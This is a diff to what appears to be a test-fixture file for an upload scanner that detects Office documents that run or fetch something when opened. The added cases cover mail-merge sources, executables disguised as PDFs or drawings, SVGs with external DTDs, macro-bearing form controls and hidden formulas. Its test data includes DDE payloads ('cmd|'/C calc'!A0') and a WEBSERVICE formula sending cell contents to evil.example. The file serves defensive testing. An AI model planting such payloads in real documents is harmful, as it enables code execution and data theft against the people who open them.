@@ -1,8 +1,10 @@
 """Office documents that start or load something when they are opened."""
 
+import gzip
+
 from media.uploads.office_xml import VML
 
-from .files import EXE, OLE, package, relationship
+from .files import EXE, OLE, package, pdf, relationship
 
 LNK = b"\x4c\x00\x00\x00\x01\x14\x02\x00" + bytes(90)
 HTA = b"<hta:application/><script>run()</script>"
@@ -38,6 +40,8 @@ FIELDS = {
     "a DDE field that does not end": document(mark("begin"), f"<w:r><w:instrText>{DDE}</w:instrText></w:r>"),
     "a DDE field in another field": document(field("IF 1 = 1 ", field(DDE))),
     "a field that another field names": document(field(field('QUOTE "DDE"'), " cmd.exe")),
+    "a keyword that a field completes": document(field("DAT", field('QUOTE "ABAS"'), "E x")),
+    "a keyword that a field ends": document(field("DATE", field('QUOTE "BASE"'), " x")),
     "a simple DDE field": document(f"<w:fldSimple w:instr='{DDE}' x:instr='PAGE'/>"),
     "a text from elsewhere": document(field('INCLUDETEXT "//evil.example/a.docx"')),
     "a picture from elsewhere": document(field('INCLUDEPICTURE "https://evil.example/a.png" \\d')),
@@ -47,6 +51,8 @@ FIELDS = {
 
 OBJECT, LOADS = "This file contains an object from another program", "This file loads a part from elsewhere"
 FIELD, MACROS = "This file has a field, formula, or action that starts a program", "This file contains macros"
+ADD_IN = "This file was saved with the pane of an add-in open"
+DECLARES = "This file has XML declarations"
 NOT_ONE = "This file is of another type, not"
 
 
@@ -56,6 +62,10 @@ def related(to: str, kind="docx", target="a.xml", part="word___rels__document_do
 
 def sheet(formula: str) -> bytes:
     return package("xlsx", xl__worksheets__sheet1_dot_xml=f"<worksheet><c><f>{formula}</f></c></worksheet>")
+
+
+def control(element: str) -> bytes:
+    return package("xlsx", xl__ctrlProps__ctrlProp1_dot_xml=f"<a><{element}/></a>")
 
 
 def slide(action: str) -> bytes:
@@ -73,7 +83,27 @@ PARTS = {
     ("docx", "a web page"): (package(word__afchunk_dot_html=HTA), OBJECT),
     ("docx", "a binary part"): (package(word__a_dot_bin=b"x"), OBJECT),
     ("docx", "a relationship that nobody knows"): (related("surprise"), OBJECT),
-    ("docx", "an add-in"): (related("webextensiontaskpanes", part="_rels__"), OBJECT),
+    ("docx", "an add-in"): (related("webextensiontaskpanes", part="_rels__"), ADD_IN),
+    ("docx", "a list to merge"): (
+        package(word___rels__settings_dot_xml_dot_rels=relationship("mailMergeSource")),
+        LOADS,
+    ),
+    ("docx", "recipients"): (related("recipientData", part="word___rels__settings_dot_xml"), LOADS),
+    ("docx", "a picture that is a PDF file with scripts"): (
+        package(word__media__image1_dot_pdf=pdf(script=True)),
+        OBJECT,
+    ),
+    ("docx", "a program called a PDF file"): (package(word__media__image1_dot_pdf=EXE), OBJECT),
+    ("docx", "a program packed as a drawing"): (package(word__media__image1_dot_wmz=gzip.compress(EXE)), OBJECT),
+    ("docx", "a PDF file that is no picture"): (package(word__embeddings__a_dot_pdf=pdf()), OBJECT),
+    ("docx", "declarations of another address in a drawing"): (
+        package(word__media__a_dot_svg='<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd"><svg/>'),
+        DECLARES,
+    ),
+    ("docx", "entities in a drawing"): (
+        package(word__media__a_dot_svg='<!DOCTYPE svg [<!ENTITY a "b">]><svg/>'),
+        DECLARES,
+    ),
     ("docx", "an own template"): (related("attachedTemplate"), LOADS),
     ("docx", "a picture at an address that it calls a part"): (
         related("image", target="https://evil.example/a"),
@@ -91,6 +121,23 @@ PARTS = {
     ("xlsx", "a DDE formula"): (sheet("cmd|'/C calc'!A0"), FIELD),
     ("xlsx", "a DDE formula as a name"): (package("xlsx", "<w><definedName>'a'|b!c</definedName></w>"), FIELD),
     ("xlsx", "a formula that sends"): (sheet('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)'), FIELD),
+    ("xlsx", "a formula between references with quotes"): (
+        sheet("Table1['#x]+WEBSERVICE(\"http://e\")+Table1['#x]"),
+        FIELD,
+    ),
+    ("xlsx", "a formula between references with a quotation mark"): (
+        sheet('Table1[[a"b]]+WEBSERVICE(A1)&amp;Table1[[a"b]]'),
+        FIELD,
+    ),
+    ("xlsx", "a formula between brackets in texts"): (sheet('"["&amp;WEBSERVICE(A1)&amp;"]"'), FIELD),
+    ("xlsx", "a formula after an open bracket"): (sheet('Table1[a"+WEBSERVICE(A1)+"'), FIELD),
+    ("xlsx", "a check box with a macro"): (control('formControlPr fmlaMacro="[0]!Run"'), MACROS),
+    ("xlsx", "a button with a macro"): (control("controlPr macro=\"'C:\\a.xlsm'!Run\""), MACROS),
+    ("xlsx", "a button with a macro in its drawing"): (
+        package("xlsx", xl__a_dot_vml='<xml xmlns:x="x"><x:FmlaMacro>[0]!Run</x:FmlaMacro></xml>'),
+        MACROS,
+    ),
+    ("xlsx", "a drop-down with a DDE formula"): (control("formControlPr fmlaRange=\"cmd|'/C calc'!A0\""), FIELD),
     ("pptx", "a program to start"): (slide("ppaction://program"), FIELD),
     ("pptx", "a macro to start"): (slide("ppaction://macro?name=a"), FIELD),
 }
